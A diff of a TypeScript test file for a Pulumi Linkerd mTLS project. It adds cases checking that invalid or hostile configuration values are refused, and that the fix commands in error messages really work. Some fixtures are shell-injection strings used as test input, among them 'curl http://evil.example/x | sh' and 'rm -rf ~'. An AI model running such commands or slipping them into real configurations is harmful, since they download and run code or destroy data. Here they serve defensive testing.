@@ -3,8 +3,9 @@
  * resource is registered, naming the key, the value and what is allowed.
  */
 import { strict as assert } from "node:assert";
-import { ConfigError, resolveConfig } from "../config";
+import { ConfigError, OMIT, resolveConfig } from "../config";
 import { configSchema } from "../config/schema";
+import { configSetPath, parsePropertyPath } from "../tools/configPath";
 import { readStackConfig, runProgram } from "../tools/mockRuntime";
 import { runStack, runStackOk, STRICT } from "./helpers";
 
@@ -20,6 +21,7 @@ interface BadConfig {
 }
 
 const [TRINO] = STRICT["mtls.authorizations"];
+const GKE_PRIVATE = { masterIpv4CidrBlock: "172.16.0.0/28", network: "akko-vpc", nodeTag: "gke-akko" };
 const INGRESS = { enabled: true, host: "linkerd.akko.example", authAnnotations: { "nginx.ingress.kubernetes.io/auth-url": "https://auth.akko.example" } };
 
 const BAD_CONFIGS: BadConfig[] = [
@@ -163,14 +165,14 @@ const BAD_CONFIGS: BadConfig[] = [
     {
         why: "a namespace listed twice",
         overrides: { "mtls.namespaces": ["akko", "spark", "akko"] },
-        key: "akko-mtls:mtls.namespaces.2",
+        key: "akko-mtls:mtls.namespaces[2]",
         allowed: /lists "akko" twice/,
     },
-    { why: "an invalid namespace name", overrides: { "mtls.namespaces": ["Akko_Data"] }, key: "akko-mtls:mtls.namespaces.0", allowed: /RFC 1123/ },
+    { why: "an invalid namespace name", overrides: { "mtls.namespaces": ["Akko_Data"] }, key: "akko-mtls:mtls.namespaces[0]", allowed: /RFC 1123/ },
     {
         why: "meshing a system namespace",
         overrides: { "mtls.namespaces": ["kube-system"] },
-        key: "akko-mtls:mtls.namespaces.0",
+        key: "akko-mtls:mtls.namespaces[0]",
         allowed: /system or mesh namespace/,
     },
     { why: "no meshed namespace", overrides: { "mtls.namespaces": [] }, key: "akko-mtls:mtls.namespaces", allowed: />=1/ },
@@ -192,7 +194,7 @@ const BAD_CONFIGS: BadConfig[] = [
         why: "a static issuer of 200,000 h",
         overrides: { "identity.issuer.static.validityHours": 200_000 },
         key: "akko-mtls:identity.issuer.static.validityHours",
-        allowed: /<=175200/,
+        allowed: /must be 24–175199 h: `pulumi up` re-issues it/,
     },
     {
         why: "a static renewal window of 1,000,000 h",
@@ -204,7 +206,7 @@ const BAD_CONFIGS: BadConfig[] = [
         why: "a cert-manager issuer of 1,000,000 h",
         overrides: { "identity.issuer.certManager.durationHours": 1_000_000 },
         key: "akko-mtls:identity.issuer.certManager.durationHours",
-        allowed: /<=175200/,
+        allowed: /must be 3–48 h: cert-manager renews it/,
     },
     {
         why: "a cert-manager renewal of 1,000,000 h",
@@ -294,7 +296,7 @@ const BAD_CONFIGS: BadConfig[] = [
     {
         why: "a rule label key with a space",
         overrides: { "observability.ruleLabels": { "release name": "kps" } },
-        key: "akko-mtls:observability.ruleLabels.release name",
+        key: 'akko-mtls:observability.ruleLabels["release name"]',
         allowed: /not a valid label key/,
         value: "kps",
     },
@@ -327,7 +329,7 @@ const BAD_CONFIGS: BadConfig[] = [
     {
         why: "a scraper selector with an empty label name",
         overrides: { "viz.prometheus.scraper.podSelector": { "app.kubernetes.io/": "prometheus" } },
-        key: "akko-mtls:viz.prometheus.scraper.podSelector.app.kubernetes.io/",
+        key: 'akko-mtls:viz.prometheus.scraper.podSelector["app.kubernetes.io/"]',
         allowed: /the name must not be empty/,
         value: "prometheus",
     },
@@ -340,7 +342,7 @@ const BAD_CONFIGS: BadConfig[] = [
     {
         why: "a server's selector with a bad prefix",
         overrides: { ...STRICT, "mtls.authorizations": [{ ...TRINO, podSelector: { "App.IO/name": "trino" } }] },
-        key: "akko-mtls:mtls.authorizations.0.podSelector.App.IO/name",
+        key: 'akko-mtls:mtls.authorizations[0].podSelector["App.IO/name"]',
         allowed: /the prefix before '\/' must be a DNS subdomain/,
         value: "trino",
     },
@@ -348,7 +350,7 @@ const BAD_CONFIGS: BadConfig[] = [
         why: "an auth annotation key with a space",
         stack: "eks",
         overrides: { "viz.dashboard.ingress": { ...INGRESS, authAnnotations: { "nginx.ingress.kubernetes.io/auth url": "https://auth" } } },
-        key: "akko-mtls:viz.dashboard.ingress.authAnnotations.nginx.ingress.kubernetes.io/auth url",
+        key: 'akko-mtls:viz.dashboard.ingress.authAnnotations["nginx.ingress.kubernetes.io/auth url"]',
         allowed: /not a valid annotation key/,
         value: "https://auth",
     },
@@ -413,8 +415,8 @@ const BAD_CONFIGS: BadConfig[] = [
     {
         why: "a client in a namespace that is not meshed",
         overrides: { ...STRICT, "mtls.authorizations": [{ ...TRINO, clients: ["etl.web.serviceaccount.identity.linkerd.cluster.local"] }] },
-        key: "akko-mtls:mtls.authorizations.0.clients.0",
-        allowed: /names namespace web, which is not meshed/,
+        key: "akko-mtls:mtls.authorizations[0].clients[0]",
+        allowed: /names a namespace \(its second part\) that is not meshed/,
         value: "etl.web.serviceaccount.identity.linkerd.cluster.local",
     },
     {
@@ -429,35 +431,35 @@ const BAD_CONFIGS: BadConfig[] = [
     {
         why: "an opaque port listed twice",
         overrides: { "mtls.namespaceOptions": { akko: { opaquePorts: [5432, 5432] } } },
-        key: "akko-mtls:mtls.namespaceOptions.akko.opaquePorts.1",
+        key: "akko-mtls:mtls.namespaceOptions.akko.opaquePorts[1]",
         allowed: /repeats item 0: list each entry once/,
         value: 5432,
     },
     {
         why: "a skipped port listed twice",
         overrides: { "mtls.namespaceOptions": { akko: { skipOutboundPorts: [25, 587, 25] } } },
-        key: "akko-mtls:mtls.namespaceOptions.akko.skipOutboundPorts.2",
+        key: "akko-mtls:mtls.namespaceOptions.akko.skipOutboundPorts[2]",
         allowed: /repeats item 0/,
         value: 25,
     },
     {
         why: "an Alertmanager listed twice",
         overrides: { "viz.prometheus.alertmanagers": ["http://am:9093", "http://am:9093"] },
-        key: "akko-mtls:viz.prometheus.alertmanagers.1",
+        key: "akko-mtls:viz.prometheus.alertmanagers[1]",
         allowed: /repeats item 0/,
         value: "http://am:9093",
     },
     {
         why: "a client listed twice",
         overrides: { ...STRICT, "mtls.authorizations": [{ ...TRINO, clients: [TRINO.clients![0], TRINO.clients![0]] }] },
-        key: "akko-mtls:mtls.authorizations.0.clients.1",
+        key: "akko-mtls:mtls.authorizations[0].clients[1]",
         allowed: /repeats item 0/,
         value: TRINO.clients![0],
     },
     {
         why: "a network listed twice",
         overrides: { "viz.prometheus.readers": { networks: ["10.0.0.0/8", "10.0.0.0/8"] } },
-        key: "akko-mtls:viz.prometheus.readers.networks.1",
+        key: "akko-mtls:viz.prometheus.readers.networks[1]",
         allowed: /repeats item 0/,
         value: "10.0.0.0/8",
     },
@@ -467,9 +469,9 @@ const BAD_CONFIGS: BadConfig[] = [
         why: "a blank kube context",
         overrides: { "cluster.context": " " },
         key: "akko-mtls:cluster.context",
-        allowed: /must not be empty or start or end with whitespace/,
+        allowed: /a kubeconfig context name: letters, digits and/,
     },
-    { why: "a kube context with a trailing space", overrides: { "cluster.context": "netcup " }, key: "akko-mtls:cluster.context", allowed: /whitespace/ },
+    { why: "a kube context with a trailing space", overrides: { "cluster.context": "netcup " }, key: "akko-mtls:cluster.context", allowed: /no spaces/ },
     {
         why: "an empty dashboards folder",
         overrides: { "observability.grafanaDashboards.folder": "" },
@@ -479,7 +481,7 @@ const BAD_CONFIGS: BadConfig[] = [
     {
         why: "a port name without a letter",
         overrides: { ...STRICT, "mtls.authorizations": [{ ...TRINO, port: "80-80" }] },
-        key: "akko-mtls:mtls.authorizations.0.port",
+        key: "akko-mtls:mtls.authorizations[0].port",
         allowed: /at least one letter/,
         value: "80-80",
     },
@@ -492,7 +494,218 @@ const BAD_CONFIGS: BadConfig[] = [
         key: "akko-mtls:viz.prometheus.retentionSize",
         allowed: /more than zero/,
     },
+
+    // Hostile input (issue 17): each was accepted, or refused only after resources were registered.
+    ...(["gke-akko; curl http://evil.example/x | sh", "gke-akko\n--allow=all", "GKE_AKKO", "-gke", "a".repeat(64)].map((nodeTag) => ({
+        why: `a GKE node tag ${JSON.stringify(nodeTag.slice(0, 30))} (printed into the gcloud command operators copy)`,
+        stack: "gke",
+        overrides: { "cluster.gkePrivate": { ...GKE_PRIVATE, nodeTag } },
+        key: "akko-mtls:cluster.gkePrivate.nodeTag",
+        allowed: /a GCE network tag: lower-case letters, digits and -/,
+        value: nodeTag,
+    })) as BadConfig[]),
+    {
+        why: "a GKE network with a shell character",
+        stack: "gke",
+        overrides: { "cluster.gkePrivate": { ...GKE_PRIVATE, network: "vpc$(id)" } },
+        key: "akko-mtls:cluster.gkePrivate.network",
+        allowed: /a GCP name: .*at most 46 characters \(the firewall rule <network>-linkerd-webhooks must fit in 63\)/,
+        value: "vpc$(id)",
+    },
+    ...(["0.0.0.0/0", "172.16.0.0/24", "172.16.0.1/28", "8.8.8.0/28"].map((masterIpv4CidrBlock) => ({
+        why: `a GKE control-plane range ${masterIpv4CidrBlock}`,
+        stack: "gke",
+        overrides: { "cluster.gkePrivate": { ...GKE_PRIVATE, masterIpv4CidrBlock } },
+        key: "akko-mtls:cluster.gkePrivate.masterIpv4CidrBlock",
+        allowed: /must be a \/28 network in private address space/,
+        value: masterIpv4CidrBlock,
+    })) as BadConfig[]),
+    {
+        why: "a kube context that is a shell command",
+        overrides: { "cluster.context": "netcup; rm -rf ~" },
+        key: "akko-mtls:cluster.context",
+        allowed: /no spaces, quotes or shell characters/,
+    },
+    {
+        why: "a kubeconfig path with a newline",
+        overrides: { "cluster.kubeconfig": "/home/ops/.kube/config\nx" },
+        key: "akko-mtls:cluster.kubeconfig",
+        allowed: /control or invisible characters \(found U\+000A/,
+    },
+    ...(["/", "/opt/../bin", "/opt/cni\nbin", "/opt//cni", "/opt/cni/", "opt/cni"].map((binDir) => ({
+        why: `a CNI binDir ${JSON.stringify(binDir)}`,
+        overrides: { "linkerd.cni.binDir": binDir },
+        key: "akko-mtls:linkerd.cni.binDir",
+        allowed: binDir === "/" ? /must not be the root/ : /an absolute, normalized path/,
+    })) as BadConfig[]),
+    { why: "a CNI netDir of /", overrides: { "linkerd.cni.netDir": "/" }, key: "akko-mtls:linkerd.cni.netDir", allowed: /must not be the root/ },
+    {
+        why: 'a proxy memory limit of "1" (every proxy OOM-killed)',
+        overrides: { "linkerd.proxy.resources.memory.limit": "1" },
+        key: "akko-mtls:linkerd.proxy.resources.memory.limit",
+        allowed: /at least 32Mi: below that the container is OOM-killed at start/,
+    },
+    {
+        why: "a proxy memory of 1000Ti",
+        stack: "eks",
+        overrides: { "linkerd.proxy.resources.memory.limit": "1000Ti" },
+        key: "akko-mtls:linkerd.proxy.resources.memory.limit",
+        allowed: /at most 64Gi: no component of the mesh needs more/,
+    },
+    {
+        why: "128m of memory (milli, not mebi)",
+        overrides: { "linkerd.proxy.resources.memory.request": "128m" },
+        key: "akko-mtls:linkerd.proxy.resources.memory.request",
+        allowed: /at least 4Mi.*\(128m is 0\.128 bytes: m means milli; write Mi for mebibytes\)/,
+    },
+    {
+        why: "a CPU limit of 1m",
+        overrides: { "rotationJob.resources.cpu.limit": "1m" },
+        key: "akko-mtls:rotationJob.resources.cpu.limit",
+        allowed: /at least 10m/,
+    },
+    {
+        why: "a CPU request finer than 1m",
+        overrides: { "rotationJob.resources.cpu.request": "0.0005" },
+        key: "akko-mtls:rotationJob.resources.cpu.request",
+        allowed: /at least 1m/,
+    },
+    {
+        why: "a retention of 100000000y",
+        overrides: { "viz.prometheus.retention": "100000000y" },
+        key: "akko-mtls:viz.prometheus.retention",
+        allowed: /at most 10y/,
+    },
+    { why: "a retention of 5m", overrides: { "viz.prometheus.retention": "5m" }, key: "akko-mtls:viz.prometheus.retention", allowed: /at least 1h/ },
+    {
+        why: "a retention size of 1000000TB",
+        overrides: { "viz.prometheus.retentionSize": "1000000TB" },
+        key: "akko-mtls:viz.prometheus.retentionSize",
+        allowed: /at most 100TB/,
+    },
+    {
+        why: "a trust-domain label over 63 characters",
+        overrides: { "identity.trustDomain": `${"a".repeat(64)}.local` },
+        key: "akko-mtls:identity.trustDomain",
+        allowed: /each at most 63 characters/,
+    },
+    {
+        why: "a renewBeforeHours of 1 (the daily check's threshold would be 0)",
+        overrides: { "identity.issuer.certManager.renewBeforeHours": 1 },
+        key: "akko-mtls:identity.issuer.certManager.renewBeforeHours",
+        allowed: /at least 2: the daily check alerts when fewer than renewBeforeHours - 1 hours are left/,
+    },
+    {
+        why: "a static renewBeforeHours of 1",
+        stack: "k3d",
+        overrides: { "identity.issuer.static.renewBeforeHours": 1 },
+        key: "akko-mtls:identity.issuer.static.renewBeforeHours",
+        allowed: /at least 2/,
+    },
+    {
+        why: "a cert-manager issuer of 72 h (refused by the policy pack)",
+        overrides: { "identity.issuer.certManager.durationHours": 72 },
+        key: "akko-mtls:identity.issuer.certManager.durationHours",
+        allowed: /must be 3–48 h/,
+    },
+    {
+        why: "a runbook URL with template braces (Prometheus could not parse the rules)",
+        overrides: { "observability.runbookUrl": "https://wiki.example/runbooks/{{ $labels.alertname }}" },
+        key: "akko-mtls:observability.runbookUrl",
+        allowed: /no space, quote, brace or control character/,
+    },
+    {
+        why: "a runbook URL with a newline (the URL parser drops it silently)",
+        overrides: { "observability.runbookUrl": "https://wiki.example/run\nbook" },
+        key: "akko-mtls:observability.runbookUrl",
+        allowed: /no space, quote, brace or control character/,
+    },
+    {
+        why: "an Alertmanager URL with a password (Prometheus' static target drops it)",
+        overrides: { "viz.prometheus.alertmanagers": ["http://admin:hunter2@am.monitoring.svc:9093"] },
+        key: "akko-mtls:viz.prometheus.alertmanagers[0]",
+        allowed: /without a user or password/,
+        value: "http://admin:hunter2@am.monitoring.svc:9093",
+    },
+    {
+        why: "a chart repository with credentials",
+        overrides: { "linkerd.repository": "https://user:token@helm.linkerd.io/edge" },
+        key: "akko-mtls:linkerd.repository",
+        allowed: /without a user or password/,
+    },
+    {
+        why: "an empty forward-auth annotation",
+        stack: "eks",
+        overrides: { "viz.dashboard.ingress": { ...INGRESS, authAnnotations: { "nginx.ingress.kubernetes.io/auth-url": "" } } },
+        key: 'akko-mtls:viz.dashboard.ingress.authAnnotations["nginx.ingress.kubernetes.io/auth-url"]',
+        allowed: /must not be empty: an empty forward-auth annotation asks no one/,
+        value: "",
+    },
+    {
+        why: "a configuration snippet as the dashboard's auth annotation",
+        stack: "eks",
+        overrides: { "viz.dashboard.ingress": { ...INGRESS, authAnnotations: { "nginx.ingress.kubernetes.io/configuration-snippet": "allow all;" } } },
+        key: 'akko-mtls:viz.dashboard.ingress.authAnnotations["nginx.ingress.kubernetes.io/configuration-snippet"]',
+        allowed: /is not a forward-auth annotation; the gates are nginx\.ingress\.kubernetes\.io\/auth-url \(ingress-nginx\)/,
+        value: "allow all;",
+    },
+    {
+        why: "an ALB Ingress whose auth type is none",
+        stack: "eks",
+        overrides: { "viz.dashboard.ingress": { ...INGRESS, authAnnotations: { "alb.ingress.kubernetes.io/auth-type": "none" } } },
+        key: 'akko-mtls:viz.dashboard.ingress.authAnnotations["alb.ingress.kubernetes.io/auth-type"]',
+        allowed: /must be "oidc" or "cognito"/,
+        value: "none",
+    },
+    {
+        why: "a dashboard Ingress with viz off (ignored)",
+        stack: "eks",
+        overrides: { "viz.enabled": false, "observability.prometheusOperator": true, "viz.dashboard.ingress": INGRESS },
+        key: "akko-mtls:viz.dashboard.ingress.enabled",
+        allowed: /needs viz\.enabled true/,
+        value: true,
+    },
+    {
+        why: "a Prometheus URL with the bundled Prometheus (ignored)",
+        overrides: { "viz.prometheus.url": "http://prometheus.monitoring.svc:9090" },
+        key: "akko-mtls:viz.prometheus.url",
+        allowed: /applies only to an external Prometheus/,
+    },
+    {
+        why: "k3s Traefik values with a controller in its own namespace (ignored)",
+        stack: "eks",
+        overrides: { "mtls.ingress.k3sTraefikValues": { ports: { web: { port: 8000 } } }, "mtls.ingress.enabled": true },
+        key: "akko-mtls:mtls.ingress.k3sTraefikValues",
+        allowed: /applies only to k3s' Traefik/,
+    },
+    {
+        why: "Traefik values nested 700 deep (crashed after 55 resources)",
+        overrides: { "mtls.ingress.k3sTraefikValues": nested(700) },
+        // Cut where the walk stops: 32 levels from the top-level key.
+        key: `akko-mtls:mtls.ingress.k3sTraefikValues${".a".repeat(29)}`,
+        allowed: /nests deeper than 32 levels/,
+        value: OMIT,
+    },
+    {
+        why: "Traefik values nested 20 deep",
+        overrides: { "mtls.ingress.k3sTraefikValues": nested(20) },
+        key: "akko-mtls:mtls.ingress.k3sTraefikValues",
+        allowed: /must nest at most 16 levels deep/,
+    },
+    {
+        why: "Traefik values of 100 KiB",
+        overrides: { "mtls.ingress.k3sTraefikValues": { blob: "x".repeat(100 * 1024) } },
+        key: "akko-mtls:mtls.ingress.k3sTraefikValues",
+        allowed: /must be at most 64 KiB as JSON/,
+    },
 ];
+
+/** `{ a: { a: … { a: 1 } } }`, `depth` levels deep. */
+function nested(depth: number): Record<string, unknown> {
+    let value: Record<string, unknown> = { a: 1 };
+    for (let i = 1; i < depth; i++) value = { a: value };
+    return value;
+}
 
 describe("bad configs are rejected before any resource is registered", () => {
     it(`covers at least 15 cases (${BAD_CONFIGS.length})`, () => assert.ok(BAD_CONFIGS.length >= 15));
@@ -509,7 +722,7 @@ describe("bad configs are rejected before any resource is registered", () => {
                 "value" in bad
                     ? bad.value
                     : setKey.startsWith("mtls.namespaces") && problem.key !== "akko-mtls:mtls.namespaces"
-                      ? (set as string[])[Number(problem.key.split(".").pop())]
+                      ? (set as string[])[Number(/\[([0-9]+)\]$/.exec(problem.key)![1])]
                       : set;
             if (typeof set !== "string" || !set.startsWith("{")) assert.deepEqual(problem.value, reported, "the value found is reported");
             assert.ok(run.error.message.includes(bad.key), "the message names the key");
@@ -587,7 +800,7 @@ describe("keys that are not keys: __proto__, constructor, prototype", () => {
         [
             "prototype inside a list's object",
             { "akko-mtls:mtls": JSON.stringify({ authorizations: [{ prototype: {} }] }) },
-            "akko-mtls:mtls.authorizations.0.prototype",
+            "akko-mtls:mtls.authorizations[0].prototype",
         ],
         ["__proto__ as a top-level key", { "akko-mtls:__proto__": '{"target":"eks"}' }, "akko-mtls:__proto__"],
     ];
@@ -640,10 +853,19 @@ describe("hints for common mistakes", () => {
             'was set without --path: Pulumi stored one key named "mtls.enabled", which the config does not have. ' +
                 "Fix: pulumi config rm akko-mtls:mtls.enabled && pulumi config set --path mtls.enabled true",
         );
-        const text = await problemOf({ "akko-mtls:viz.dashboard.ingress.className": "nginx public" }, "akko-mtls:viz.dashboard.ingress.className");
+        const text = await problemOf(
+            { "akko-mtls:observability.grafanaDashboards.folder": "Linkerd mTLS" },
+            "akko-mtls:observability.grafanaDashboards.folder",
+        );
         assert.match(
             text.problem.message,
-            /Fix: pulumi config rm akko-mtls:viz\.dashboard\.ingress\.className && pulumi config set --path viz\.dashboard\.ingress\.className 'nginx public'$/,
+            /Fix: pulumi config rm akko-mtls:observability\.grafanaDashboards\.folder && pulumi config set --path observability\.grafanaDashboards\.folder 'Linkerd mTLS'$/,
+        );
+        // A value the key refuses anyway gets no command that would store it: removal, and what is wrong with it.
+        const invalid = await problemOf({ "akko-mtls:viz.dashboard.ingress.className": "nginx public" }, "akko-mtls:viz.dashboard.ingress.className");
+        assert.match(
+            invalid.problem.message,
+            /Fix: pulumi config rm akko-mtls:viz\.dashboard\.ingress\.className, then set a value it takes with pulumi config set --path viz\.dashboard\.ingress\.className <value> \(this one is not: a Kubernetes object name/,
         );
         // A list (or object) given whole: --path would keep its JSON as text, so item by item.
         const list = await problemOf({ "akko-mtls:mtls.namespaces": '["akko","spark"]' }, "akko-mtls:mtls.namespaces");
@@ -691,9 +913,13 @@ describe("hints for common mistakes", () => {
             validity.message,
             /^expected number, got the text "8760": write it without quotes in the stack file, or run pulumi config set --path identity\.issuer\.static\.validityHours 8760 \(with --path, integers and true\/false are stored typed/,
         );
+        // No command for a number the key refuses anyway: it would be no fix.
         const negative = await runStack("netcup", { "rotationJob.windowHours": "-1" });
         assert.ok(negative.error instanceof ConfigError);
-        assert.match(negative.error.problems[0].message, /pulumi config set --path rotationJob\.windowHours -- -1 /, "a negative number is no flag");
+        assert.equal(
+            negative.error.problems[0].message,
+            'expected number, got the text "-1": written as a number, -1 is not allowed here either (integer 1–24)',
+        );
         const decimal = await runStack("netcup", { "rotationJob.windowHours": "1.5" });
         assert.ok(decimal.error instanceof ConfigError);
         assert.equal(decimal.error.problems[0].message, "expected number", "--path would store 1.5 as text too: no command to offer");
@@ -719,9 +945,28 @@ describe("hints for common mistakes", () => {
             phase.error.problems[0].message,
             /^allowed: 0, 1, 2, 3, got the text "1": .*pulumi config set --path identity\.trustAnchor\.rotationPhase 1/,
         );
-        const yes = await runStack("netcup", { "mtls.enabled": "yes" });
-        assert.ok(yes.error instanceof ConfigError);
-        assert.equal(yes.error.problems[0].message, "expected boolean", "no hint for text that is no boolean");
+        // yes, 1, True: the same hint, naming the boolean meant (issue 19).
+        for (const [text, meant] of [
+            ["yes", true],
+            ["True", true],
+            ["1", true],
+            ["off", false],
+            ["0", false],
+        ] as const) {
+            const run = await runStack("netcup", { "mtls.enabled": text });
+            assert.ok(run.error instanceof ConfigError);
+            assert.equal(
+                run.error.problems[0].message,
+                `expected boolean, got the text "${text}": a boolean is true or false, unquoted: write ${meant} in the stack file, or run ` +
+                    `pulumi config set --path mtls.enabled ${meant} (with --path, true and false are stored typed; quotes or --type string store text)`,
+            );
+        }
+        const one = await runStack("netcup", { "mtls.enabled": 1 });
+        assert.ok(one.error instanceof ConfigError);
+        assert.match(one.error.problems[0].message, /^expected boolean, got the number 1: a boolean is true or false, .*set --path mtls\.enabled true /);
+        const maybe = await runStack("netcup", { "mtls.enabled": "maybe" });
+        assert.ok(maybe.error instanceof ConfigError);
+        assert.equal(maybe.error.problems[0].message, "expected boolean", "no hint for text that is no boolean");
     });
 
     it("text where an object or a list is expected: set its keys or items one by one", async () => {
@@ -729,7 +974,7 @@ describe("hints for common mistakes", () => {
         assert.ok(object.error instanceof ConfigError);
         assert.match(
             object.error.problems[0].message,
-            /^expected object, got the text "100m": this key holds the keys cpu, memory; set each one with pulumi config set --path linkerd\.proxy\.resources\.cpu\.request <value>/,
+            /^expected object, got the text "100m": this key holds the keys cpu, memory; set each one with pulumi config rm --path linkerd\.proxy\.resources && pulumi config set --path linkerd\.proxy\.resources\.cpu\.request <value>/,
         );
         const json = await runStack("netcup", { "mtls.ingress": '{"enabled":true}' });
         assert.ok(json.error instanceof ConfigError);
@@ -741,13 +986,156 @@ describe("hints for common mistakes", () => {
         assert.ok(map.error instanceof ConfigError);
         assert.match(
             map.error.problems[0].message,
-            /^expected record, .*a map; set each one with pulumi config set --path 'observability\.ruleLabels\.<key>' <value>/,
+            /^expected record, .*a map; set each one with pulumi config rm --path observability\.ruleLabels && pulumi config set --path 'observability\.ruleLabels\.<key>' <value>/,
         );
         const list = await runStack("netcup", { "mtls.namespaces": '["akko","spark"]' });
         assert.ok(list.error instanceof ConfigError);
         assert.match(
             list.error.problems[0].message,
-            /^expected array, .*set each item, pulumi config set --path 'mtls\.namespaces\[0\]' akko && pulumi config set --path 'mtls\.namespaces\[1\]' spark/,
+            /^expected array, .*set each item, pulumi config rm --path mtls\.namespaces && pulumi config set --path 'mtls\.namespaces\[0\]' akko && pulumi config set --path 'mtls\.namespaces\[1\]' spark/,
         );
+    });
+});
+
+describe("messages that say what is wrong (issue 19)", () => {
+    it("a number too large for JSON (1e309) is named as such, not reported as null", async () => {
+        const run = await runRaw({ "akko-mtls:rotationJob": '{"windowHours":1e309}' });
+        assert.ok(run.error instanceof ConfigError, String(run.error));
+        assert.match(run.error.message, /akko-mtls:rotationJob\.windowHours: expected number: Infinity is no number the config can hold \(got Infinity\)/);
+        assert.doesNotMatch(run.error.message, /got null/);
+    });
+
+    it("a missing value of a union names what is missing, not 'Invalid input (got nothing)'", async () => {
+        const { port: _port, ...portless } = TRINO;
+        const run = await runStack("netcup", { ...STRICT, "mtls.authorizations": [portless] });
+        assert.ok(run.error instanceof ConfigError, String(run.error));
+        assert.match(run.error.message, /akko-mtls:mtls\.authorizations\[0\]\.port: is required \(integer 1–65535 or string\)/);
+        const network = await runStack("netcup", { ...STRICT, "mtls.authorizations": [{ ...TRINO, clients: undefined, networks: ["kubelet"] }] });
+        assert.ok(network.error instanceof ConfigError, String(network.error));
+        assert.match(network.error.message, /networks\[0\]: expected CIDR \(IPv4 or IPv6\) \(got "kubelet"\)/);
+        for (const refused of [run, network]) assert.doesNotMatch(refused.error!.message, /Invalid input/);
+    });
+});
+
+/**
+ * `pulumi config set|rm` as the CLI applies them to a stack's config (tools/configPath.ts for
+ * `--path`): what a suggested fix does when the operator runs it.
+ */
+function applyCommand(config: Record<string, string>, words: string[]): Record<string, string> {
+    const [verb, ...rest] = words;
+    const flags = new Set(rest.filter((w) => w.startsWith("--") && w !== "--"));
+    const operands = rest.filter((w, i) => !(w.startsWith("--") && w !== "--") && !(rest[i - 1] === "--type"));
+    const args = operands.filter((w) => w !== "--");
+    if (verb === "rm" && !flags.has("--path")) {
+        const next = { ...config };
+        delete next[args[0].includes(":") ? args[0] : `akko-mtls:${args[0]}`];
+        return next;
+    }
+    const path = parsePropertyPath(args[0]);
+    const topKey = `akko-mtls:${path[0]}`;
+    if (verb === "rm") {
+        const root = JSON.parse(config[topKey]);
+        let node = root;
+        for (const segment of path.slice(1, -1)) node = node[segment];
+        if (Array.isArray(node)) node.splice(path[path.length - 1] as number, 1);
+        else delete node[path[path.length - 1]];
+        return { ...config, [topKey]: JSON.stringify(root) };
+    }
+    const next = configSetPath(config, args[0], args[1], "akko-mtls");
+    if (!rest.includes("string")) return next;
+    // --type string: the text as given, not coerced to a boolean or a number.
+    const root = JSON.parse(next[topKey]);
+    let node = root;
+    for (const segment of path.slice(1, -1)) node = node[segment];
+    node[path[path.length - 1]] = args[1];
+    return { ...next, [topKey]: JSON.stringify(root) };
+}
+
+/**
+ * The `pulumi config …` commands a message suggests (chains joined by &&), as shell words; none with a
+ * placeholder. A bare word loses the `)` or `,` of the sentence around it.
+ */
+function suggestedCommands(message: string): string[][][] {
+    const chains: string[][][] = [];
+    for (const match of message.matchAll(/pulumi config (?:set|rm)\b(?:(?!, or |, then | \(with | \(this ).)*/g)) {
+        const chain = match[0].split(" && ").map((command) => {
+            const words: string[] = [];
+            for (const token of command.matchAll(/'((?:[^']|'\\'')*)'|(\S+)/g))
+                words.push(token[1] !== undefined ? token[1].replace(/'\\''/g, "'") : token[2].replace(/[),]+$/, ""));
+            return words.slice(2); // after "pulumi config"
+        });
+        if (!chain.some((words) => words.some((w) => w.includes("<")))) chains.push(chain);
+    }
+    return chains;
+}
+
+describe("a suggested fix is itself valid (issue 17)", () => {
+    // Configs whose refusal suggests commands: text for numbers and booleans, lists and objects as text,
+    // keys set without --path (valid values and invalid ones), keys that cannot be keys.
+    const cases: Record<string, string>[] = [
+        { "akko-mtls:identity": '{"issuer":{"static":{"validityHours":"8760"}}}' },
+        { "akko-mtls:rotationJob": '{"windowHours":"050"}' },
+        { "akko-mtls:rotationJob": '{"windowHours":"-1"}' },
+        { "akko-mtls:rotationJob": '{"windowHours":"99"}' },
+        { "akko-mtls:identity": '{"trustAnchor":{"rotationPhase":"1"}}' },
+        { "akko-mtls:identity": '{"trustAnchor":{"rotationPhase":"7"}}' },
+        ...["true", "True", "yes", "1", "off", "0"].map((text) => ({ "akko-mtls:mtls": JSON.stringify({ enabled: text }) })),
+        { "akko-mtls:mtls": '{"namespaces":"[\\"akko\\",\\"spark\\"]"}' },
+        { "akko-mtls:mtls": '{"namespaces":"[\\"Akko_Data\\"]"}' },
+        { "akko-mtls:mtls": JSON.stringify({ namespaces: JSON.stringify(Array.from({ length: 12 }, (_, i) => `ns${i}`)) }) },
+        { "akko-mtls:mtls": '{"namespaces":"akko"}' },
+        { "akko-mtls:mtls.enabled": "true" },
+        { "akko-mtls:mtls.enabled": "yes" },
+        { "akko-mtls:mtls.namespaces": '["akko","spark"]' },
+        { "akko-mtls:viz.dashboard.ingress.className": "nginx public" },
+        { "akko-mtls:observability.grafanaDashboards.folder": "Linkerd mTLS" },
+        { "akko-mtls:observability.grafanaDashboards.labelValue": "1" },
+        { "akko-mtls:linkerd.controllerReplicas": "2" },
+        { "akko-mtls:linkerd.controllerReplicas": "9" },
+        { "akko-mtls:mtls": JSON.stringify({ enabled: true, mode: "strict", authorizations: [{ ...TRINO, port: "8080" }] }) },
+        { "akko-mtls:mtls": JSON.stringify({ enabled: true, mode: "strict", authorizations: [{ ...TRINO, port: "99999" }] }) },
+        { "akko-mtls:mtls": '{"enabled":true,"__proto__":{"enabled":false}}' },
+    ];
+
+    it("every command a refusal suggests, applied, leaves the key it names valid", () => {
+        let applied = 0;
+        for (const entries of cases) {
+            const config: Record<string, string> = {
+                ...readStackConfig("netcup"),
+                "akko-mtls:mtls": '{"enabled":false,"namespaces":["akko","spark"]}',
+                ...entries,
+            };
+            const resolve = (c: Record<string, string>) => {
+                try {
+                    resolveConfig(
+                        Object.fromEntries(
+                            Object.entries(c).map(([k, v]) => {
+                                try {
+                                    return [k.slice("akko-mtls:".length), JSON.parse(v)];
+                                } catch {
+                                    return [k.slice("akko-mtls:".length), v];
+                                }
+                            }),
+                        ),
+                    );
+                    return [];
+                } catch (error) {
+                    assert.ok(error instanceof ConfigError, String(error));
+                    return error.problems;
+                }
+            };
+            const problems = resolve(config);
+            assert.ok(problems.length > 0, `refused: ${JSON.stringify(entries)}`);
+            for (const problem of problems) {
+                for (const chain of suggestedCommands(problem.message)) {
+                    let fixed = config;
+                    for (const words of chain) fixed = applyCommand(fixed, words);
+                    const still = resolve(fixed).filter((p) => p.key === problem.key || p.key.startsWith(`${problem.key}[`));
+                    assert.deepEqual(still, [], `${problem.key}: ${chain.map((w) => w.join(" ")).join(" && ")}`);
+                    applied++;
+                }
